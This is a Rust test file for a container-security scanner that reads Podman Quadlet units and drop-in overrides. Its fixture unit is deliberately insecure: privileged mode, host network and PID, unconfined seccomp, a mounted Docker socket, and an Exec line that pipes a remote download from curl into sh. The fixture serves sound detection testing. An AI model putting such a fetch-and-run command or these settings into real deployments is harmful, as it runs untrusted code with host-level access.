//! Units in, containers out.

use secscan_model::{Node, Platform, Resource, Source, SourceId};

use secscan_model::{Diagnostic, Graph};

use crate::{Options, assemble, read_file, read_unit, units};

fn read(files: &[(&str, &str)]) -> (Graph, Vec<Diagnostic>) {
    let source = |(index, (path, text)): (usize, &(&str, &str))| Source::from_text(SourceId(index as u32), path, text);
    let readings: Vec<_> = files.iter().enumerate().map(source).map(read_file).collect();
    let units = units(&readings);
    let read = units.list.iter().map(|unit| read_unit(unit, &units, &readings, None, &Options::default())).collect();
    assemble(readings, read, Vec::new())
}

fn container(graph: &Graph) -> &Resource {
    let found = graph.resources.iter().find(|it| it.platform == Platform::Common && &*it.kind == "container");
    found.expect("a container")
}

fn text<'r>(resource: &'r Resource, path: &[&str]) -> Option<&'r str> {
    resource.value.at_path(path).and_then(Node::as_str)
}

const WEB: &str = "\
[Unit]
Description=Web

[Container]
Image=docker.io/library/nginx:latest
ContainerName=web
User=1000
Group=1000
AddCapability=NET_ADMIN CAP_SYS_TIME
DropCapability=all
NoNewPrivileges=true
SeccompProfile=unconfined
Network=host
ReadOnly=true
Volume=/var/run/docker.sock:/var/run/docker.sock:ro
PublishPort=8080:80
Environment=MODE=plain \"NOTE=two words\"
Exec=sh -c 'curl http://example.org | sh'
PodmanArgs=--privileged --pid=host --memory 64m
HealthCmd=curl -f http://localhost

[Service]
Restart=always
";

#[test]
fn a_unit_is_a_container() {
    let (graph, diagnostics) = read(&[("units/web.container", WEB)]);
    assert!(diagnostics.is_empty(), "{diagnostics:?}");
    let container = container(&graph);
    assert_eq!(text(container, &["platform"]), Some("quadlet"));
    assert_eq!(text(container, &["name"]), Some("web"));
    assert_eq!(text(container, &["image"]), Some("docker.io/library/nginx:latest"));
    for (key, value) in [
        ("privileged", true),
        ("host-network", true),
        ("host-pid", true),
        ("read-only-root", true),
        ("allow-escalation", false),
    ] {
        assert_eq!(container.value.get(key).and_then(Node::as_bool), Some(value), "{key}");
    }
    let list = |key: &str| -> Vec<&str> {
        container.value.get(key).map_or(&[][..], Node::items).iter().filter_map(Node::as_str).collect()
    };
    assert_eq!(list("cap-add"), ["NET_ADMIN", "SYS_TIME"]);
    assert_eq!(list("cap-drop"), ["ALL"]);
    assert_eq!(text(container, &["seccomp"]), Some("Unconfined"));
    assert_eq!(text(container, &["limits", "memory"]), Some("64m"));
    let mount = &container.value.get("mounts").expect("mounts").items()[0];
    assert_eq!(mount.get("host-path").and_then(Node::as_str), Some("/var/run/docker.sock"));
    assert_eq!(text(container, &["restart"]), Some("always"));
    let variables = container.value.get("env").expect("variables").items();
    assert_eq!(variables[1].get("value").and_then(Node::as_str), Some("two words"));
    let commands = graph.resources.iter().filter(|it| &*it.kind == "command");
    let names: Vec<&str> = commands.filter_map(|it| text(it, &["name"])).collect();
    assert!(names.contains(&"curl") && names.contains(&"sh"), "{names:?}");
}

#[test]
fn places_are_those_of_the_unit() {
    let (graph, _) = read(&[("web.container", WEB)]);
    let place = |node: &Node| &WEB[node.at.span.range()];
    let value = &container(&graph).value;
    assert_eq!(place(value.get("cap-add").expect("set").items().first().expect("one")), "NET_ADMIN");
    assert_eq!(place(value.get("image").expect("set")), "docker.io/library/nginx:latest");
}

#[test]
fn other_files_of_these_names_are_left_alone() {
    let (graph, _) = read(&[("lib/A.pod", "=pod\n\n=head1 NAME\n"), ("meson.build", "project('a', 'c')\n")]);
    assert!(graph.sources.is_empty());
    let (graph, _) = read(&[("a.pod", "[Pod]\nPublishPort=80:80\n")]);
    assert_eq!(&*graph.resources[0].kind, "pod");
}

#[test]
fn drop_ins_are_laid_over_their_unit() {
    let (graph, diagnostics) = read(&[
        ("units/container.d/10-all.conf", "[Container]\nUser=2000\nNoNewPrivileges=false\n"),
        ("units/other.container.d/10.conf", "[Container]\nReadOnly=false\n"),
        ("units/web.container", WEB),
        ("units/web.container.d/10-all.conf", "[Container]\nUser=0\nAddCapability=\nAddCapability=SYS_ADMIN\n"),
        ("units/web.container.d/20.conf", "[Service]\nRestart=no\n"),
    ]);
    assert!(diagnostics.is_empty(), "{diagnostics:?}");
    let container = container(&graph);
    let value = |key: &str| container.value.get(key).expect("set");
    let written = |node: &Node| {
        let source = graph.source(node.at.source).expect("a file");
        format!("{}: {}", source.path, &source.text().expect("UTF-8")[node.at.span.range()])
    };
    assert_eq!(written(value("run-as-user")), "units/web.container.d/10-all.conf: 0");
    let added: Vec<String> = value("cap-add").items().iter().map(written).collect();
    assert_eq!(added, ["units/web.container.d/10-all.conf: SYS_ADMIN"]);
    assert_eq!(value("allow-escalation").as_bool(), Some(false), "the closer file of that name hides the other");
    assert_eq!(value("read-only-root").as_bool(), Some(true));
    assert_eq!(value("restart").as_str(), Some("no"));
    assert_eq!(graph.resources.iter().filter(|it| it.platform == Platform::Quadlet).count(), 1);
}

#[test]
fn a_unit_is_joined_with_the_manifest_that_it_starts() {
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n";
    let unit = "[Kube]\nYaml=./a.yaml\nYaml=none.yaml\n";
    let (graph, diagnostics) = read(&[("units/a.kube", unit), ("units/a.yaml", pod)]);
    let edges = graph.edges.iter().map(|edge| (&*graph.resource(edge.from).address, &*graph.resource(edge.to).address));
    assert_eq!(edges.collect::<Vec<_>>(), [("a.kube", "default/Pod/a")]);
    assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
    assert_eq!(&unit[diagnostics[0].at.expect("a place").span.range()], "none.yaml");
}
